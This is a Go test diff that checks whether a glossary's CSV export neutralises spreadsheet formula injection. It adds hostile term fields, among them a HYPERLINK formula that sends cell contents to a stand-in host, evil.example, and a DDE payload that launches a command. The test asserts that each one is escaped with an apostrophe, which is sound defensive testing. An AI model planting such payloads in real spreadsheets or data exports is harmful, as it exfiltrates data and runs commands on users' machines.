@@ -3,12 +3,14 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"io"
 	"log/slog"
 	"net/http"
 	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -32,6 +34,12 @@ func TestExportOpenData(t *testing.T) {
 		t.Fatal(err)
 	}
 	if err := loadDemo(ctx, st, io.Discard); err != nil { // a vote that settled a wording
+		t.Fatal(err)
+	}
+	// A hostile title, summary and definition, which the CSV guards
+	// against spreadsheets running them as formulas.
+	const hostile = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
+	if _, err := st.ImportTerm(ctx, hostile, "+1+cmd|' /C calc'!A0", "- a list\n- of two"); err != nil {
 		t.Fatal(err)
 	}
 	const site = "https://glossary.example.org"
@@ -68,6 +76,22 @@ func TestExportOpenData(t *testing.T) {
 		}
 		if !bytes.Contains(got, []byte(site+"/terms/care-navigator")) {
 			t.Errorf("%s has no URI for care navigator", f.File)
+		}
+		if f.Name == "csv" {
+			rows, err := csv.NewReader(bytes.NewReader(got)).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			var guarded []string
+			for _, row := range rows {
+				if row[0] == "hyperlink-https-evil-example-d-and-a1-click" {
+					guarded = row[1:5]
+				}
+			}
+			want := []string{"'" + hostile, site + "/terms/hyperlink-https-evil-example-d-and-a1-click", "'+1+cmd|' /C calc'!A0", "'- a list\n- of two"}
+			if !slices.Equal(guarded, want) {
+				t.Errorf("the hostile term's title, uri, summary and definition in %s = %q, want %q", f.File, guarded, want)
+			}
 		}
 	}
 
